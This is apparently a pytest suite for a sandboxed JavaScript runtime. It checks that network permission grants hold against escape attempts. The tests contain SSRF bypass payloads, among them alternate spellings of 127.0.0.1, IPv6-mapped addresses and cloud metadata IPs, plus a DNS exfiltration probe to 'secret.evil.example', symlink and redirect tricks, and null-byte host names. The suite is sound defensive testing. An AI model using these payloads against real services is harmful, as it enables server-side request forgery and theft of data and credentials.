"""Rows 20 to 28: the network."""

from __future__ import annotations

import os
import socket
from pathlib import Path

import pytest

from tests.escapes.sandbox import attack, canary

_HAS_IPV6 = socket.has_ipv6 and Path("/proc/net/if_inet6").exists()


def test_20_local_sockets_are_a_grant_of_their_own(edge_node: Path, tmp_path: Path) -> None:
    path, other = tmp_path / "a.sock", tmp_path / "b.sock"
    code = f"""
        const net = require('net');
        Promise.all([dial('{path}'), dial('\\0abstract'), listen(net.createServer(), '{other}')]).then(report)
    """
    with canary(socket.AF_UNIX, str(path)) as caught:
        assert attack(edge_node, code) == ["EACCES", "EACCES", "EACCES"]
        assert attack(edge_node, code, "--allow-net=*,127.0.0.0/8", "--volume", f"{tmp_path}:{tmp_path}:rw") == ["EACCES"] * 3
        assert caught.reached == 0 and not other.exists()
        assert attack(edge_node, code, f"--allow-unix={path},{other}") == ["connected", "EACCES", "listening"]
        assert caught.reached == 1


def test_20_a_link_in_the_place_of_a_granted_socket(edge_node: Path, tmp_path: Path) -> None:
    secret, inside = tmp_path / "secret.sock", tmp_path / "inside"
    inside.mkdir()
    code = f"""
        const fs = require('fs');
        fs.symlinkSync('../secret.sock', '/v/granted.sock');
        dial('{inside}/granted.sock').then((first) => {{
            fs.unlinkSync('/v/granted.sock');
            fs.writeFileSync('/v/granted.sock', '');
            return dial('{inside}/granted.sock').then((second) => report([first, second]));
        }})
    """
    with canary(socket.AF_UNIX, str(secret)) as caught:
        assert attack(edge_node, code, "--volume", f"{inside}:/v:rw", f"--allow-unix={inside}/granted.sock") == ["EACCES", "EACCES"]
        assert caught.reached == 0


# Everything that the system's resolver or a URL takes for 127.0.0.1.
_SPELLINGS = [
    "127.1",
    "0x7f.1",
    "0x7f000001",
    "2130706433",
    "017700000001",
    "127.0.0.1.",
    "0177.0.0.01",
    "localhost",
    "LOCALHOST.",
    "foo.localhost",
]


@pytest.mark.parametrize("grant", ["*", "*:*", "0.0.0.0/0,[::/0]", "8.8.8.8", "*.localhost"])
def test_21_numeric_host_names(edge_node: Path, grant: str) -> None:
    code = """
        const port = Number(process.argv.at(-1));
        (async () => {
            const ends = [];
            for (const host of SPELLINGS) {
                ends.push(await dial({ port, host }));
                ends.push(await settle(fetch(`http://${host}:${port}/`)));
            }
            report([...new Set(ends)].filter((end) => end === 'connected' || end === 'done'));
        })()
    """.replace("SPELLINGS", str(_SPELLINGS))
    with canary() as caught:
        code = code.replace("process.argv.at(-1)", str(caught.port))
        assert attack(edge_node, code, f"--allow-net={grant}") == []
        assert caught.reached == 0


def test_22_addresses_in_other_clothes(edge_node: Path) -> None:
    hosts = ["::ffff:127.0.0.1", "::ffff:7f00:1", "0.0.0.0", "::", "::1", "127.255.255.254", "0:0:0:0:0:ffff:127.0.0.1", "::127.0.0.1"]
    code = "Promise.all(HOSTS.map((host) => dial({ port: PORT, host }))).then(report)"
    with canary() as caught:
        code = code.replace("HOSTS", str(hosts)).replace("PORT", str(caught.port))
        for grant in ["*", "0.0.0.0/0,[::/0]", "10.0.0.0/8"]:
            assert set(attack(edge_node, code, f"--allow-net={grant}")) == {"EACCES"}
        assert caught.reached == 0
        # A grant of the address opens its clothes too, and no other address.
        ends = attack(edge_node, code, "--allow-net=127.0.0.1")
        assert ends[:3] == ["connected", "connected", "connected"] and ends[4:6] == ["EACCES", "EACCES"]


def test_23_a_name_opens_only_what_the_resolver_answered(edge_node: Path) -> None:
    # The program's own look-up says that the granted name is this host; the connection is checked on the address.
    code = """
        const lookup = (name, options, done) => options.all ? done(null, [{ address: '127.0.0.1', family: 4 }]) : done(null, '127.0.0.1', 4);
        (async () => {
            const dns = require('dns');
            const first = await dial({ port: PORT, host: 'example.com', lookup });
            dns.lookup = lookup;
            const second = await dial({ port: PORT, host: 'example.com' });
            const third = await dial({ port: PORT, host: '93.184.216.34' });
            report([first, second, third]);
        })()
    """
    with canary() as caught:
        assert attack(edge_node, code.replace("PORT", str(caught.port)), "--allow-net=example.com") == ["EACCES"] * 3
        assert caught.reached == 0


def test_24_every_hop_is_checked(edge_node: Path) -> None:
    redirect = """
        const http = require('http');
        const server = http.createServer((request, response) => response.writeHead(302, { location: 'http://127.0.0.1:PORT/' }).end());
        server.listen(0, '127.0.0.1', async () => {
            const end = await settle(fetch(`http://127.0.0.1:${server.address().port}/`));
            server.close();
            report(end);
        })
    """
    proxy = "settle(fetch('http://example.com/')).then(report)"
    with canary() as caught:
        # The first hop may be anywhere but at the canary's port.
        ports = f"--allow-net=127.0.0.1:1024-{caught.port - 1},127.0.0.1:{caught.port + 1}-65535"
        assert attack(edge_node, redirect.replace("PORT", str(caught.port)), ports, "--allow-listen=127.0.0.1") == "EACCES"
        host = {"HTTP_PROXY": f"http://127.0.0.1:{caught.port}", "http_proxy": f"http://127.0.0.1:{caught.port}", "NODE_USE_ENV_PROXY": "1"}
        attack(edge_node, proxy, "--allow-net=example.com", "--allow-env=HTTP_PROXY,http_proxy,NODE_USE_ENV_PROXY", env=host)
        assert caught.reached == 0


def test_25_metadata_addresses(edge_node: Path) -> None:
    hosts = [
        "169.254.169.254",
        "::ffff:169.254.169.254",
        "fd00:ec2::254",
        "100.100.100.200",
        "168.63.129.16",
        "fe80::a9fe:a9fe",
        "192.0.0.192",
        "64:ff9b::a9fe:a9fe",
    ]
    code = f"Promise.all({hosts}.map((host) => dial({{ port: 80, host }}))).then(report)"
    for grant in ["*", "*:80", "0.0.0.0/0,[::/0]", "128.0.0.0/1", "100.0.0.0/8,168.0.0.0/8,192.0.0.0/8,[fc00::/7]"]:
        assert set(attack(edge_node, code, f"--allow-net={grant}")) <= {"EACCES"}


def test_26_datagrams(edge_node: Path) -> None:
    code = """
        const dgram = require('dgram');
        const send = (port, host) => new Promise((resolve) => {
            const socket = dgram.createSocket('udp4');
            socket.on('error', (error) => { resolve(error.code) });
            socket.send('hush', port, host, (error) => { socket.close(); resolve(error?.code ?? 'sent') });
        });
        const join = () => new Promise((resolve) => {
            const socket = dgram.createSocket({ type: 'udp4' });
            socket.on('error', (error) => resolve(error.code));
            socket.bind(0, '127.0.0.1', () => { resolve(code(() => socket.addMembership('224.0.0.114'))); socket.close() });
        });
        (async () => report([await send(PORT, '127.0.0.1'), await send(53, '8.8.8.8'), await send(9, '224.0.0.114'), await send(9, '255.255.255.255'), await join()]))()
    """
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("127.0.0.1", 0))
        receiver.settimeout(0.2)
        code = code.replace("PORT", str(receiver.getsockname()[1]))
        assert attack(edge_node, code) == ["EACCES"] * 5
        # TCP's grants are none for datagrams, and listening is none for groups.
        assert attack(edge_node, code, "--allow-net=tcp://*,tcp://127.0.0.1", "--allow-listen=127.0.0.1") == ["EACCES"] * 5
        with pytest.raises(TimeoutError):
            receiver.recv(16)
        assert attack(edge_node, code, "--allow-net=udp://127.0.0.1")[0] == "sent"
        assert receiver.recv(16) == b"hush"


def test_26_names_carry_nothing_out(edge_node: Path) -> None:
    code = """
        const dns = require('dns'), names = ['secret.evil.example', 'evil.example', 'example.com.evil.example', '1.0.0.127.in-addr.arpa'];
        const ask = (f, ...args) => new Promise((resolve) => f(...args, (error) => resolve(error?.code ?? 'asked')));
        (async () => {
            const ends = [];
            for (const name of names) {
                ends.push(await ask(dns.lookup, name));
                for (const f of [dns.resolve4, dns.resolveTxt, dns.resolveAny]) ends.push(await ask(f, name));
            }
            ends.push(await ask(dns.reverse, '8.8.8.8'), await ask(dns.lookupService, '8.8.8.8', 80));
            const own = new dns.Resolver({ tries: 1, timeout: 300 });
            own.setServers(['127.0.0.1:PORT']);
            ends.push(await ask(own.resolve4.bind(own), 'example.com'));
            report([...new Set(ends)].sort());
        })()
    """
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(0.2)
        code = code.replace("PORT", str(server.getsockname()[1]))
        for options in [[], ["--allow-net=example.com"], ["--allow-dns=*.example.com"]]:
            assert set(attack(edge_node, code, *options)) <= {"EACCES", "EREFUSED"}
        with pytest.raises(TimeoutError):
            server.recv(512)


def test_27_listening_wider_than_granted(edge_node: Path) -> None:
    code = """
        const net = require('net'), dgram = require('dgram');
        const bind = (options, ...where) => new Promise((resolve) => {
            const socket = dgram.createSocket({ type: 'udp4', ...options });
            socket.on('error', (error) => resolve(error.code));
            socket.bind(...where, () => { socket.close(); resolve('bound') });
        });
        (async () => report({
            any: await listen(net.createServer(), PORT), v4: await listen(net.createServer(), PORT, '0.0.0.0'), v6: await listen(net.createServer(), PORT, '::'),
            mapped: await listen(net.createServer(), PORT, '::ffff:0.0.0.0'), other: await listen(net.createServer(), OTHER, '127.0.0.1'),
            free: await listen(net.createServer(), 0, '127.0.0.1'), shared: await listen(net.createServer(), { port: PORT, host: '127.0.0.1', reusePort: true }),
            datagram: await bind({}, PORT, '127.0.0.1'), reused: await bind({ reuseAddr: true }, PORT, '127.0.0.1'),
            granted: await listen(net.createServer(), PORT, '127.0.0.1'),
        }))()
    """
    with socket.socket() as free, socket.socket() as other:
        free.bind(("127.0.0.1", 0))
        other.bind(("127.0.0.1", 0))
        ports = free.getsockname()[1], other.getsockname()[1]
    code = code.replace("PORT", str(ports[0])).replace("OTHER", str(ports[1]))
    ends = attack(edge_node, code, f"--allow-listen=tcp://127.0.0.1:{ports[0]}")
    granted = ends.pop("granted")
    assert set(ends.values()) == {"EACCES"} and granted == "listening"
    assert set(attack(edge_node, code).values()) == {"EACCES"}
    ends = attack(edge_node, code, f"--allow-listen=*:{ports[0]}")
    assert (ends["any"], ends["v4"], ends["other"], ends["shared"]) == ("listening", "listening", "EACCES", "EACCES")


def test_28_host_names_are_normalised_once(edge_node: Path) -> None:
    names = [
        "localhost\\0.example.com",
        "127.0.0.1\\0.example.com",
        "127。0。0。1",
        "①②⑦.⓪.⓪.①",
        "example.com/@localhost",
        "localhost%00.example.com",
        "xn--",
        "a" * 300,
        ".",
    ]
    code = f"""
        const dns = require('dns');
        (async () => {{
            const ends = [];
            for (const host of {[name.encode().decode() for name in names]!r}.map((name) => name.replace('\\\\0', '\\0'))) {{
                try {{ ends.push(await dial({{ port: PORT, host }})) }} catch (error) {{ ends.push(error.code) }}
            }}
            report(ends.filter((end) => end === 'connected'));
        }})()
    """
    with canary() as caught:
        for grant in ["*.example.com", "*", "example.com"]:
            assert attack(edge_node, code.replace("PORT", str(caught.port)), f"--allow-net={grant}") == []
        assert caught.reached == 0


@pytest.mark.parametrize(
    ("option", "reason"),
    [
        ("--allow-net=http://example.com", 'connect[0]: "http://example.com": "http" is no protocol: tcp or udp'),
        ("--allow-net=localhost:80", 'connect[0]: "localhost:80": this host is granted by its address, 127.0.0.1 or [::1]'),
        ("--allow-net=a.b:99999", 'connect[0]: "a.b:99999": "99999" is no port, range of ports or *'),
        ("--allow-net=10.0.0.1/8", 'connect[0]: "10.0.0.1/8": the address has bits after its first 8'),
        ("--allow-listen=a.b:80", 'listen[0]: "a.b:80": where to listen is an address, not a name'),
        ("--allow-dns=127.1", 'dns[0]: "127.1" is an address in an unusual notation, not a name'),
        ("--allow-unix=a.sock", 'unix_sockets[0]: "a.sock" is no absolute path of a socket'),
        ("--allow-unix=/nowhere/a.sock", "unix_sockets[0]: /nowhere: no such file or directory"),
    ],
)
def test_bad_rules_are_told(edge_node: Path, option: str, reason: str) -> None:
    from tests.escapes.sandbox import run

    done = run(edge_node, "", option)
    assert (done.returncode, done.stderr) == (9, f"edge-node: {reason}\n")


def test_localhost_by_name_needs_the_address(edge_node: Path) -> None:
    with canary() as caught:
        code = f"settle(fetch('http://localhost:{caught.port}/')).then(report)"
        assert attack(edge_node, code, "--allow-net=8.8.8.8") == "EACCES"
        assert attack(edge_node, code, f"--allow-net=127.0.0.1:{caught.port}") == "done"
        assert caught.reached == 1


@pytest.mark.skipif(not os.environ.get("EDGE_INTERNET"), reason="needs the internet: set $EDGE_INTERNET")
def test_a_granted_name_works(edge_node: Path) -> None:
    assert attack(edge_node, "settle(fetch('http://example.com/')).then(report)", "--allow-net=tcp://example.com:80") == "done"
